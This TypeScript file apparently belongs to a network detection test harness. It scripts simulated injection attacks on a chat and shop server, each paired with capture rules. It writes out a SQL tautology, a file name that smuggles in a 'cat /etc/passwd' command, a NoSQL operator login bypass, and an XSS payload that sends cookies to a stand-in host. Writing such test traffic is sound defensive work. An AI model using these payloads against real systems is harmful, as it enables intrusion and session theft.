// Injection in messages: what the server passes on to its database, its shell, or other people's browsers.
import type { Attack } from './attacks.ts'
import { open } from './clients.ts'
import { attackers, victims } from './network.ts'

export const injectionAttacks: readonly Attack[] = [
  {
    id: 'sql',
    class: 'injection',
    about: 'A product id that is always true: the shop answers with all its rows.',
    addresses: [attackers.sql],
    rules: { capture: ['sql_injection_in_message'], log: [] },
    run: async () => {
      const talk = await open({ from: attackers.sql, path: '/shop' })
      talk.say({ productId: '7' })
      await talk.hear('products')
      talk.say({ productId: "1' OR 1=1--" })
      await talk.hear('products')
      await talk.bye()
    },
  },
  {
    id: 'shell',
    class: 'injection',
    about: 'A file name with a second command behind it.',
    addresses: [attackers.shell],
    rules: { capture: ['shell_command_in_message'], log: [] },
    run: async () => {
      const talk = await open({ from: attackers.shell, path: '/chat' })
      talk.say({ type: 'export', file: 'report.pdf; cat /etc/passwd' })
      await talk.hear('exported')
      await talk.bye()
    },
  },
  {
    id: 'nosql',
    class: 'injection',
    about: 'A login whose password is an operator that holds for every password. It is let in.',
    addresses: [attackers.nosql],
    rules: { capture: ['nosql_operator_in_message'], log: [] },
    run: async () => {
      const talk = await open({ from: attackers.nosql, path: '/chat' })
      talk.say({ type: 'login', user: 'admin', password: { $ne: null } })
      await talk.hear('login_ok')
      await talk.bye()
    },
  },
  {
    id: 'script',
    class: 'injection',
    about: 'A chat line with a script in it, relayed as it is to everybody in the room.',
    addresses: [attackers.script, victims.reader],
    rules: { capture: ['script_in_message', 'script_relayed_to_others'], log: [] },
    run: async () => {
      const reader = await open({ from: victims.reader, path: '/chat' })
      reader.say({ type: 'join', room: 'harbour' })
      await reader.hear('joined')
      const talk = await open({ from: attackers.script, path: '/chat' })
      const text = '<img src=x onerror="fetch(\'https://drop.example.net/?c=\'+document.cookie)">'
      talk.say({ type: 'say', room: 'harbour', text })
      await reader.hear('said')
      await talk.bye()
      await reader.bye()
    },
  },
]
